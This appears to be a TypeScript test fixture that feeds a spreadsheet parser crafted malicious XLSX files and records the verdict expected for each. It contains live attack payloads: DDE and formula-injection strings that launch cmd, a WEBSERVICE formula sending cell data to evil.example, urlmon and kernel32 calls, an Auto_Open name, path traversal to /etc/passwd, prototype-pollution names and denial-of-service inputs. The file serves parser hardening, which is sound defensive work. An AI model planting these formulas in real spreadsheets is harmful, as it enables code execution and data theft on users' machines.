import { hostile } from '../hostile-file.ts'
import { craftXlsx, relationsXml, sheetXml, workbookXml } from '../office-files.ts'

const cell = (inside: string) => sheetXml(`<row r="1"><c r="A1">${inside}</c></row>`)
const formula = (code: string) => cell(`<f>${code}</f><v>0</v>`)

/** Formulas that start a program, fetch something, or send a cell away. */
const acting = [
  "cmd|' /C calc'!A0",
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
  'DDE("cmd","/c calc","x")+cmd|\'/c calc\'!A1',
  'WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)',
  'CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;JJCCJJ&quot;)',
  'EXEC(&quot;calc.exe&quot;)',
  'REGISTER.ID(&quot;kernel32&quot;,&quot;WinExec&quot;)',
  'RTD(&quot;evil.server&quot;,,&quot;x&quot;)',
] as const

export const xlsxParser = hostile('xlsx parser bugs', [
  ...acting.map(
    (code) =>
      [`the formula ${code}`, 'a.xlsx', 'active-content', () => craftXlsx({ main: formula(code) })] as const,
  ),
  [
    'a sheet called __proto__',
    'a.xlsx',
    'taken',
    () => craftXlsx({ workbook: workbookXml('<sheet name="__proto__" sheetId="1" r:id="r1"/>') }),
  ],
  [
    'an element called constructor',
    'a.xlsx',
    'taken',
    () => craftXlsx({ main: cell('<constructor/><__proto__/><toString/><v>1</v>') }),
  ],
  [
    'attributes called __proto__',
    'a.xlsx',
    'taken',
    () => craftXlsx({ main: sheetXml('<row r="1" __proto__="1" hasOwnProperty="2"/>') }),
  ],
  [
    'a part called __proto__',
    'a.xlsx',
    'taken',
    () => craftXlsx({ parts: [{ name: 'xl/__proto__.xml', bytes: '<a/>' }] }),
  ],
  [
    'a number of a million digits',
    'a.xlsx',
    'taken',
    () => craftXlsx({ main: cell(`<v>${'1'.repeat(1_000_000)}</v>`) }),
  ],
  [
    'a cell far away',
    'a.xlsx',
    'taken',
    () => craftXlsx({ main: sheetXml('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>') }),
  ],
  [
    'a hundred thousand merged cells',
    'a.xlsx',
    'taken',
    () =>
      craftXlsx({
        main: sheetXml('').replace(
          '</worksheet>',
          `<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(100_000)}</mergeCells></worksheet>`,
        ),
      }),
  ],
  [
    'a text that takes a pattern for ever',
    'a.xlsx',
    'taken',
    () => craftXlsx({ main: formula(`${'a|'.repeat(4000)}b`) }),
  ],
  [
    'a name that opens by itself',
    'a.xlsx',
    'active-content',
    () =>
      craftXlsx({
        workbook: workbookXml(
          '<sheet name="a" sheetId="1" r:id="r1"/>',
          '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>',
        ),
      }),
  ],
  [
    'a sheet that is not there',
    'a.xlsx',
    'damaged',
    () => craftXlsx({ relations: [['worksheet', 'worksheets/sheet2.xml']] }),
  ],
  ['a sheet that is something else', 'a.xlsx', 'damaged', () => craftXlsx({ main: '<html/>' })],
  [
    'a workbook outside the file',
    'a.xlsx',
    'damaged',
    () =>
      craftXlsx({
        replace: {
          '_rels/.rels': {
            bytes: relationsXml([['officeDocument', 'http://evil.example/book.xml', 'outside']]),
          },
        },
      }),
  ],
  [
    'a workbook above the file',
    'a.xlsx',
    'damaged',
    () =>
      craftXlsx({
        replace: { '_rels/.rels': { bytes: relationsXml([['officeDocument', '../../etc/passwd']]) } },
      }),
  ],
  [
    'a link to another workbook by DDE',
    'a.xlsx',
    'active-content',
    () =>
      craftXlsx({
        parts: [
          {
            name: 'xl/externalLinks/externalLink1.xml',
            bytes: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
          },
        ],
      }),
  ],
  [
    'an outside connection',
    'a.xlsx',
    'active-content',
    () =>
      craftXlsx({
        parts: [
          {
            name: 'xl/connections.xml',
            bytes: '<connections><connection id="1" command="x"/></connections>',
          },
        ],
      }),
  ],
])
